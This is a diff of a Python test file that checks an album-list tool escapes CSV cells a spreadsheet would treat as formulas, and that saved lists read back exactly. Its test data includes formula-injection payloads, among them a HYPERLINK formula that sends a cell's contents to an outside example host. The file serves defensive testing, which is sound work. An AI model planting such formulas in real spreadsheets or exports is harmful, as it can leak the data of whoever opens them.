@@ -1,20 +1,35 @@
 """``nopaingan dataset fetch``'s album lists: a list named twice (under any spelling of its path) is read once,
-with a note, as an album listed twice is fetched once."""
+with a note, as an album listed twice is fetched once; a saved list (``--save-list``) has no cell a spreadsheet
+reads as a formula (OWASP's CSV injection rule), and reading it back gives every name exactly."""
 
 from __future__ import annotations
 
+import csv
 import itertools
+import json
 import os
 from pathlib import Path
+from urllib.parse import unquote_plus
 
 import pytest
 import test_fetch
-from hypothesis import given, settings
+from hypothesis import assume, given, reject, settings
 from hypothesis import strategies as st
 from test_fetch import rows
 
+from training.cleaning import normalise_genres
 from training.cli import main
-from training.fetch import distinct_files, read_album_list
+from training.errors import DatasetError
+from training.fetch import (
+    _MISSING,
+    FORMULA_START,
+    AlbumRequest,
+    cell_text,
+    distinct_files,
+    read_album_list,
+    spreadsheet_cell,
+    write_album_list,
+)
 
 audio, shop = test_fetch.audio, test_fetch.shop  # the fixtures: previews, and both fake catalogues
 ROWS = {"a": "artist,album\nDaft Punk,Discovery\nBjörk,Homogenic\n", "b": "artist,album\nSigur Rós,Takk...\n"}
@@ -98,3 +113,105 @@ def test_a_list_named_twice_fetches_each_album_once(tmp_path: Path, shop, capsys
     assert main([*argv[:3], argv[2], *argv[3:], *apis]) == 0
     assert set(rows(out)) == {"Discovery", "Homogenic"}
     assert not (out / "skipped.jsonl").read_text()  # no duplicates listed
+
+
+# (name, its cell in a saved list): what would start a formula gets an apostrophe; other names stay as they are
+CELLS = [
+    ("=1+1", "'=1+1"),
+    ('=HYPERLINK("http://example.org/?"&A1;"x")', '\'=HYPERLINK("http://example.org/?"&A1;"x")'),
+    ("+44", "'+44"),
+    ("-Ology", "'-Ology"),
+    ("-", "'-"),
+    ("@SUM(A1)", "'@SUM(A1)"),
+    ("@", "'@"),
+    ("\tTab", "'\tTab"),
+    ("\rReturn", "'\rReturn"),
+    ("\0nul", "'\0nul"),
+    ("'=1+1", "''=1+1"),  # apostrophes before a formula: one more, which reading takes away
+    ("''-x", "'''-x"),
+    ("'Til Tuesday", "'Til Tuesday"),  # an apostrophe before no formula is the name's own
+    ("'74 Jailbreak", "'74 Jailbreak"),
+    ("'", "'"),
+    ("''", "''"),
+    ("' =x", "' =x"),
+    ("a=b", "a=b"),
+    (" =x", " =x"),  # a space first: no formula
+    ("Guns N' Roses", "Guns N' Roses"),
+    ("", ""),
+    ("÷", "÷"),
+    ("+-=@", "'+-=@"),
+]
+
+
+@pytest.mark.parametrize(("name", "cell"), CELLS)
+def test_a_cell_that_a_spreadsheet_would_read_as_a_formula_gets_an_apostrophe(name: str, cell: str) -> None:
+    assert spreadsheet_cell(name) == cell
+    assert cell_text(cell) == name
+
+
+# any text, and texts made of what starts a formula, apostrophes, quotes, separators, spaces and line breaks
+PIECES = [*FORMULA_START, "'", '"', "“", ",", ";", "|", " ", "\n", "[", "]", "[1]", "[note 2]", "nan", "x", "7"]
+TEXTS = st.text() | st.lists(st.sampled_from(PIECES), max_size=12).map("".join)
+# genre cells: genres of letters, spaces, apostrophes and what starts a formula, between separators
+GENRES = st.lists(st.text(st.sampled_from([*FORMULA_START, "'", " ", "a", "b"])), max_size=3).map(", ".join)
+
+
+@settings(max_examples=1000, deadline=None)
+@given(TEXTS)
+def test_cells_are_never_formulas_and_read_back_exactly(text: str) -> None:
+    cell = spreadsheet_cell(text)
+    assert not cell.startswith(FORMULA_START)
+    assert cell_text(cell) == text
+    assert cell in (text, "'" + text)
+
+
+def _fields(albums: list[AlbumRequest]) -> list[tuple]:
+    """What a fetch takes of each album: names, year, genres as cleaned (quotes around one go), the problem
+    without the file that says where."""
+    return [
+        (a.artist, a.album, a.year, a.year_text, normalise_genres(a.genres), a.problem.split(": ", 1)[-1])
+        for a in albums
+    ]
+
+
+@settings(max_examples=300, deadline=None)
+@given(st.lists(st.tuples(TEXTS, TEXTS, TEXTS, GENRES), min_size=1, max_size=4))
+def test_a_saved_list_reads_back_as_the_names_it_was_written_from(
+    tmp_path_factory: pytest.TempPathFactory, albums: list[tuple[str, str, str, str]]
+) -> None:
+    folder = tmp_path_factory.mktemp("round")
+    listed = folder / "albums.json"  # JSON carries any text as it is
+    listed.write_text(json.dumps([{"artist": a, "album": b, "year": y, "genre": g} for a, b, y, g in albums]))
+    try:
+        read = read_album_list(listed)
+    except DatasetError:  # a name over two lines: refused as it is listed, never saved
+        reject()
+    # a lone genre that is a word for "none" in a cell of its own ("tba"): the list's reader reads no genre
+    assume(not any(len(r.genres) == 1 and r.genres[0].casefold() in _MISSING for r in read))
+    saved = write_album_list(read, folder / "saved.csv")
+    with saved.open(newline="") as file:
+        assert not [cell for row in csv.reader(file) for cell in row if cell.startswith(FORMULA_START)]
+    again = read_album_list(saved)
+    assert _fields(again) == _fields(read)
+
+
+def test_a_saved_list_of_formulas_fetches_the_names_as_listed(tmp_path: Path, shop) -> None:
+    server, fake = shop
+    listed = [("=1+1", "@SUM(A1)"), ("-Ology", "+44"), ("'Til Tuesday", "'=x"), ("Daft Punk", "Discovery")]
+    saved = write_album_list([AlbumRequest(a, b, "x") for a, b in listed], tmp_path / "saved.csv")
+    assert saved.read_text().splitlines() == [
+        '"artist","album","year","genre"',
+        '"\'=1+1","\'@SUM(A1)","",""',
+        '"\'-Ology","\'+44","",""',
+        '"\'Til Tuesday","\'\'=x","",""',
+        '"Daft Punk","Discovery","",""',
+    ]
+    out = tmp_path / "DATA"
+    apis = ["--deezer-api", fake.deezer_url, "--itunes-api", fake.itunes_url, "--cache-dir", str(tmp_path / "c")]
+    fast = ["--deezer-rate", "0", "--itunes-rate", "0", "--rate-limit", "0", "--quiet"]
+    assert main(["dataset", "fetch", str(saved), "--out", str(out), *apis, *fast]) == 0
+    assert set(rows(out)) == {"Discovery"}
+    left_out = [json.loads(line) for line in (out / "skipped.jsonl").read_text().splitlines()]
+    assert {(r["artist"], r["album"]) for r in left_out} == set(listed[:3])  # the names as listed, searched for
+    searched = unquote_plus(" ".join(path for path, _ in server.requests if "/search" in path))
+    assert all(f"{artist} {album}" in searched for artist, album in listed[:3]) and "''=x" not in searched
